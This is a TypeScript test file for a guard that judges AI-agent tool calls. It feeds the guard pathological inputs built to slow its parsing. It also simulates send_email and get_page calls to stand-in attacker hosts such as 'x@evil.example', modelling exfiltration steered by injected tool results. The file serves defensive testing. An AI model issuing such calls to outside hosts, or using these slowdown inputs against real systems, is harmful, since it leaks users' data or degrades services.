import assert from "node:assert/strict";
import { test } from "node:test";
import { assertLinear } from "../../../test/linear.ts";
import { took } from "../../../test/pace.ts";
import { verifies } from "../../../test/verifies.ts";
import { type Content, defaultLabel, type Source } from "../../core/content.ts";
import { conversationOf } from "./conversation.ts";
import { objectionsTo } from "./judge.ts";

const said = (source: Source, text: string): Content => ({ source, label: defaultLabel(source), text });
const tool = (text: string): Content => said({ kind: "tool", id: "read_mail" }, text);
const repeated = (piece: string, length: number): string => piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

/** Texts made to be slow, by the place where they are put: a result, an argument, the request. */
const HOSTILE: readonly (readonly [
  string,
  (length: number) => { readonly result?: string; readonly body?: string; readonly to?: string; readonly request?: string },
])[] = [
  ["digits and dots", (n) => ({ result: `1${repeated(".", n)}1`, to: "12" })],
  ["numbers", (n) => ({ result: repeated("1,2.3'4", n), to: "12" })],
  ["blanks", (n) => ({ result: `- a: b${repeated(" ", n)}x` })],
  ["open quotes", (n) => ({ result: `- a: '${repeated("x''\n    ", n)}` })],
  ["quotes at every end", (n) => ({ result: `- a: "${repeated('x\\"\n    ', n)}` })],
  [
    "one value in every record",
    (n) => ({ result: JSON.stringify(Array.from({ length: Math.min(2_400, Math.ceil(n / 40)) }, () => ({ to: "x@evil.example", n: "anna" }))) }),
  ],
  [
    "one link in every record",
    (n) => ({ result: JSON.stringify(Array.from({ length: Math.min(2_400, Math.ceil(n / 40)) }, () => ({ b: "see www.evil.example", n: "anna" }))) }),
  ],
  ["dotted words in the text", (n) => ({ result: "x", body: repeated("a.", n) })],
  ["addresses in the text", (n) => ({ result: "x", body: repeated("b@c.de, ", n) })],
  ["hyphens", (n) => ({ result: repeated("-", n), body: repeated("-.", n) })],
  ["a request without a blank", (n) => ({ result: "x", request: repeated("a", n) })],
  ["a request of verbs", (n) => ({ result: "x", request: repeated("send ", n) })],
  ["a request of quotes", (n) => ({ result: "x", request: repeated("'\"", n) })],
  ["a request of one word with hyphens", (n) => ({ request: `send ${repeated("a-", n)}` })],
  ["a request of addresses without an end", (n) => ({ request: `send ${repeated("a@", n)}` })],
  ["a request of authors", (n) => ({ request: repeated("Anna has sent me the ", n) })],
  [
    "one author in every record",
    (n) => ({
      request: "Anna sent me a mail with a link.",
      result: JSON.stringify(Array.from({ length: Math.min(2_400, Math.ceil(n / 40)) }, (_, at) => ({ sender: "anna", text: `${at}` }))),
    }),
  ],
  ["a request of dots", (n) => ({ request: `${repeated(".", n)}x` })],
  ["combining marks", (n) => ({ result: repeated("a\u0301\u0302\u200b", n) })],
];

function decide({
  result = "x",
  body = "hello",
  to = "x@evil.example",
  request = "Send Anna the link and the mail.",
}: ReturnType<(typeof HOSTILE)[number][1]>): void {
  const conversation = conversationOf([said({ kind: "user" }, request), tool(result)]);
  objectionsTo({ tool: "send_email", args: { to, url: "www.evil.example", body } }, { effect: "write", egress: true }, conversation);
  objectionsTo({ tool: "get_page", args: { url: "www.evil.example" } }, { effect: "read", egress: true }, conversation);
}

for (const [name, make] of HOSTILE)
  test(`what is read and asked for costs no more than its length, whatever it holds: ${name}`, () => {
    verifies("P-09");
    // New text each time: nothing is remembered of it.
    assertLinear((length, round) => decide(make(length - round)), 262_144);
  });

/** Milliseconds. It takes a tenth of this; without a bound it takes ten times as much, and more for longer texts. */
const MOST_TAKEN = 400;

test("a call for which too much would have to be gone through is denied, and nothing goes on for long", () => {
  const conversation = conversationOf([said({ kind: "user" }, "Send Anna the mail."), tool(repeated("user@a.", 1_000_000))]);
  const call = (count: number): ReturnType<typeof objectionsTo> =>
    objectionsTo(
      { tool: "send_email", args: { body: Array.from({ length: count }, (_, i) => `user@a.user@a.us${i}`) } },
      { effect: "write", egress: true },
      conversation,
    );
  assert.deepEqual([...new Set(call(3).map(({ id }) => id))], ["flow/foreign-address"]);
  let ids: readonly string[] = [];
  const taken = took(() => (ids = call(1_900).map(({ id }) => id)));
  assert.deepEqual(ids, ["flow/too-many-arguments"]);
  assert.ok(taken < MOST_TAKEN, `${taken} ms`);
});

test("of a call with thousands of arguments, as many are looked for in what the user said as time allows, and the others are not named", () => {
  const request = `${repeated("user@a.", 1_000_000)} report-7`;
  const namedBy = (values: readonly string[]): boolean | undefined => {
    const call: Content = { source: { kind: "model", id: "read_mail" }, label: defaultLabel({ kind: "model" }), value: { values } };
    return conversationOf([said({ kind: "user" }, request), call, tool("x")]).untrusted[0]?.named;
  };
  const near = Array.from({ length: 10_000 }, (_, i) => `user@a.user@a.us${i}`);
  assert.equal(namedBy([...near.slice(0, 10), "report-7"]), true);
  let named: boolean | undefined;
  const taken = took(() => (named = namedBy([...near, "report-7"])));
  assert.equal(named, false);
  assert.ok(taken < MOST_TAKEN, `${taken} ms`);
});
